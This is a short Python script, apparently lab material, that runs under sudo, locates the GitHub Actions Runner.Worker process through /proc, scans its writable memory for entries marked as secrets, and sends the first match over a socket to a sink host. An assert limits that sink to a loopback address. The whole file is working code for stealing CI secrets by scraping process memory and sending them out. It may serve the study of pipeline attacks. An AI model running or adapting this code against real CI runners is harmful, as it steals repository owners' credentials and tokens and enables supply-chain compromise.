# Read from standard input by `sudo python3 -`: finds Runner.Worker under /proc and searches its memory.
import os, re, socket, sys

sink = os.environ["LAB_THIEF_SINK"].rsplit(":", 1)
assert sink[0].startswith("127.")
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if open(f"/proc/{pid}/comm").read().strip() != "Runner.Worker":
            continue
        memory = open(f"/proc/{pid}/mem", "rb", 0)
        for line in open(f"/proc/{pid}/maps"):
            m = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
            if not m:
                continue
            start, end = (int(x, 16) for x in m.groups())
            memory.seek(start)
            found = re.search(rb'.{0,128}"isSecret":true', memory.read(end - start))
            if found:
                s = socket.create_connection((sink[0], int(sink[1])))
                s.sendall(found.group(0))
                s.close()
                sys.exit(0)
    except OSError:
        pass
